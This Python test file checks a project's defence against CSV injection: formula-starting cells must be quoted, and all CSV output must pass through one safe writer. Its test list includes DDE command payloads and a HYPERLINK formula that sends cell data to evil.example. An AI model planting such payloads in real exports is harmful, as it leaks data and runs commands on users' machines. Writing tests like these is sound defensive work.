"""CSV injection: no cell of a CSV the project writes starts a spreadsheet formula."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest

from cupula.export.cells import csv_writer, safe_cell

PACKAGE = Path(__file__).parents[2] / "cupula"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_start_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "+3.5", "-1.2e3", "-.5", "0", "2025-01-03"])
def test_plain_numbers_and_ordinary_values_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def test_the_writer_quotes_every_cell_and_the_csv_still_reads_back() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["id", "value"])
    writer.writerow(["=1+1", 'a "quoted", name'])
    writer.writerow([None, -5])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["id", "value"], ["'=1+1", 'a "quoted", name'], ["", "-5"]]


def test_no_module_writes_csv_around_the_safe_writer() -> None:
    """Every CSV the package writes goes through ``export.cells``: a plain
    ``csv.writer``/``csv.DictWriter`` anywhere else would write formulas unquoted."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path == PACKAGE / "export" / "cells.py":
            continue
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(PACKAGE.parent)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv":
                names = {alias.name for alias in node.names}
                if names & {"writer", "DictWriter"}:
                    offenders.append(f"{path.relative_to(PACKAGE.parent)}:{node.lineno}")
    assert offenders == []
